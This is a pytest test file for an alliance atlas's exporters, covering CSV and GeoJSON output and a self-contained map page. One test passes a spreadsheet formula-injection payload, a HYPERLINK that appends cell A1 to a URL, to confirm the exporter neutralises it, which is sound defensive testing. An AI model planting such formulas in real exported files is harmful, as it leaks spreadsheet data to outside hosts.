import csv
import dataclasses
import io
import json
import re

import pytest

from geo.alliance.filters import Filters
from geo.atlas import load_atlas
from geo.render.export import events_csv, events_geojson, standalone_map
from geo.render.frame import inlined
from geo.render.scene import base_map, scene
from tests.conftest import ROOT


@pytest.fixture(scope="module")
def atlas():
    return load_atlas(ROOT / "data")


def test_csv_and_geojson_carry_the_filtered_events(atlas):
    events = atlas.events_matching(Filters(year=2022))
    rows = list(csv.DictReader(io.StringIO(events_csv(events))))
    assert [r["id"] for r in rows] == [e.id for e in events]
    collection = json.loads(events_geojson(events))
    assert len(collection["features"]) == len(events)
    summit = next(f for f in collection["features"] if f["id"] == "E22")
    assert summit["geometry"]["coordinates"][0] == pytest.approx(44.51, abs=0.05)
    assert summit["properties"]["sources"][0]["url"].startswith("http")


def test_csv_cells_a_spreadsheet_would_run_are_prefixed(atlas):
    event = dataclasses.replace(
        atlas.events[0],
        title='=HYPERLINK("https://example.org/?x="&A1,"open")',
        summary="@SUM(A1) and more",
        category="-1+1",
    )
    [row] = csv.DictReader(io.StringIO(events_csv([event])))
    assert (row["title"], row["summary"], row["category"]) == (
        '\'=HYPERLINK("https://example.org/?x="&A1,"open")',
        "'@SUM(A1) and more",
        "'-1+1",
    )
    assert row["id"] == event.id and not row["lat"].startswith("'")


def test_standalone_map_needs_no_server_and_no_internet(atlas):
    view = scene(atlas, "CSTO", Filters(year=2024), {"status", "events", "bases", "regions"})
    page = standalone_map(base_map(atlas, "CSTO", inlined(atlas.outlines)), view.groups)
    assert "/app/static" not in page and "<script src=" not in page
    assert not re.findall(r'(?:src|href)="https?://', page.split("aa-popup")[0])  # only source links, in popups
    assert "Armenia: participation frozen at the end of 2024" in page
    assert len(page) < 3_000_000
